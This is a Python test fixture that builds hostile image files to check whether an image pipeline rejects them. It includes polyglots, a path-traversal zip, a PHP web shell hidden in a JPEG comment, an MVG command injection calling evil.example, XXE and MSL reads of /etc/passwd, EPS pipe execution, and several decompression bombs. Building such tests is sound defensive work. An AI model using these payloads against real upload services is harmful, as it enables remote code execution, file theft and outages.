"""Files that are two things at once, other formats that claim the world, and pictures cut off at many places."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator

from tests.media.hostile import HTML, HUGE, SVG, a_place, after_start, chunk, png, segment

_EXIF_HEAD = b"Exif\0\0"


def hostile() -> Iterator[tuple[str, bytes, bool]]:
    """(name, bytes, may a picture come out)."""
    yield from _two_at_once()
    yield from _others()
    yield from _webps()
    yield from _exifs()
    for form in ("JPEG", "PNG", "WEBP"):
        whole = a_place(form)
        for n in range(1, 16):
            yield f"{form.lower()}-cut-{n}.jpg", whole[: len(whole) * n // 16], False


def a_zip() -> bytes:
    """A small archive with a script that would like to climb out."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("../../run.sh", "#!/bin/sh\nid\n")
    return packed.getvalue()


def _two_at_once() -> Iterator[tuple[str, bytes, bool]]:
    pdf = b"%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n%%EOF"
    jar = a_zip()
    gif = b"GIF89a/*" + bytes(200) + b"*/=1;alert(1)"
    for form in ("JPEG", "PNG", "WEBP", "HEIF"):
        whole = a_place(form)
        for name, more in (("zip", jar), ("html", HTML), ("pdf", pdf), ("svg", SVG), ("elf", b"\x7fELF" + bytes(99))):
            yield f"{form.lower()}-and-{name}.jpg", whole + more, True
        for name, more in (("pdf", pdf), ("zip", jar), ("gif", gif), ("svg", SVG)):
            yield f"{name}-before-{form.lower()}.jpg", more + whole, False
    jpeg = a_place("JPEG")
    yield "jpeg-with-html-in-comment.jpg", after_start(jpeg, segment(0xFE, b"*/--><script>alert(1)</script>")), True
    yield "jpeg-with-php.jpg", after_start(jpeg, segment(0xFE, b"<?php system($_GET['c']); ?>")), True
    yield "jpeg-with-zip-inside.jpg", after_start(jpeg, segment(0xE9, jar)), True
    yield "gifar.gif", b"GIF89a\x01\0\x01\0\0\0\0;" + jar, False
    yield "script-as-gif.gif", gif, False
    yield "png-with-html.png", png(9, 9, chunk(b"tEXt", b"Comment\0" + HTML)), False
    yield "mvg.jpg", b"push graphic-context\nfill 'url(https://evil.example/\"|id\")'\npop graphic-context", False
    yield "msl.jpg", b'<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>', False
    yield "xxe.svg", b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>', False
    yield (
        "laughs.svg",
        b"<!DOCTYPE l ["
        + b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
        + b"]><svg>&l9;</svg>",
        False,
    )


def _others() -> Iterator[tuple[str, bytes, bool]]:
    """Formats that nobody decodes here, whatever they promise and whatever they are called."""
    for side in (HUGE, 2**31 - 1):
        bmp = b"BM" + struct.pack("<IIIIiiHHIIiiII", 99, 0, 54, 40, side, side, 1, 24, 0, 0, 0, 0, 0, 0)
        yield f"bmp-{side}.bmp", bmp + bytes(99), False
        entries = struct.pack("<HHII", 256, 4, 1, side) + struct.pack("<HHII", 257, 4, 1, side)
        yield f"tiff-{side}.tif", b"II*\0\x08\0\0\0\x02\0" + entries + bytes(4), False
        jp2 = bytes.fromhex("0000000c6a5020200d0a870a") + struct.pack(">I4sII", 22, b"ihdr", side, side) + bytes(40)
        yield f"jp2-{side}.jp2", jp2, False
        yield f"psd-{side}.psd", b"8BPS\0\x01" + bytes(6) + struct.pack(">HIIHH", 3, side, side, 8, 3), False
    yield "gif-of-loops.gif", b"GIF89a\x01\0\x01\0\0\0\0" + b"!\xff\x0bNETSCAPE2.0\x03\x01\0\0\0" * 9_000 + b";", False
    yield "tiff-in-a-circle.tif", b"II*\0\x08\0\0\0\0\0\x08\0\0\0", False
    yield "tiff-of-counts.tif", b"MM\0*\0\0\0\x08\xff\xff" + b"\x01\0\0\x02\xff\xff\xff\xff\0\0\0\0" * 5_000, False
    yield "ico-of-many.ico", b"\0\0\x01\0\xff\xff" + bytes(16) * 5_000, False
    yield "eps.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99999 99999\n(%pipe%id) (w) file", False
    yield "wmf.jpg", bytes.fromhex("d7cdc69a") + bytes(90), False


def _webps() -> Iterator[tuple[str, bytes, bool]]:
    whole = a_place("WEBP")
    for size in (0, 1, 7, 0x7FFFFFFF, 0xFFFFFFFF):
        yield f"webp-riff-of-{size:x}.webp", whole[:4] + struct.pack("<I", size) + whole[8:], True
        yield f"webp-chunk-of-{size:x}.webp", whole[:16] + struct.pack("<I", size) + whole[20:], True
    frame = b"ANMF" + struct.pack("<I", 24) + bytes(24)
    head = b"VP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + (99).to_bytes(3, "little") * 2
    body = b"WEBP" + head + b"ANIM" + struct.pack("<I", 6) + bytes(6) + frame * 20_000
    yield "webp-of-20000-empty.webp", b"RIFF" + struct.pack("<I", len(body)) + body, True


def _exifs() -> Iterator[tuple[str, bytes, bool]]:
    """What the one field that is read (how the phone was held) may be surrounded by."""
    jpeg = a_place("JPEG")
    deep = b""
    for n in range(400):
        deep += struct.pack("<HHHII", 1, 0x8769, 4, 1, 8 + 18 * (n + 1)) + bytes(4)
    for name, body in (
        ("deep", b"II*\0\x08\0\0\0" + deep),
        ("far", b"II*\0\xff\xff\xff\xff"),
        ("counts", b"MM\0*\0\0\0\x08\xff\xff" + b"\x01\x12\0\x05\xff\xff\xff\xff\0\0\0\0" * 5_000),
        ("next-in-a-circle", b"II*\0\x08\0\0\0\0\0\x08\0\0\0"),
        ("turned-by-text", b"II*\0\x08\0\0\0\x01\0\x12\x01\x02\0\x04\0\0\0\x36\0\0\0\0\0\0\0"),
        ("turned-by-fraction", b"II*\0\x08\0\0\0\x01\0\x12\x01\x05\0\x01\0\0\0\x08\0\0\0\0\0\0\0"),
    ):
        yield f"exif-{name}.jpg", after_start(jpeg, segment(0xE1, _EXIF_HEAD + body[:65_000])), True
        where = png(160, 120)[:33] + chunk(b"eXIf", body) + a_place("PNG")[33:]
        yield f"exif-{name}.png", where, True
    yield "xmp-deep.jpg", after_start(jpeg, segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + b"<a>" * 20_000)), True
    yield "profile-of-lies.jpg", after_start(jpeg, segment(0xE2, b"ICC_PROFILE\0\1\1" + b"\xff" * 60_000)), True
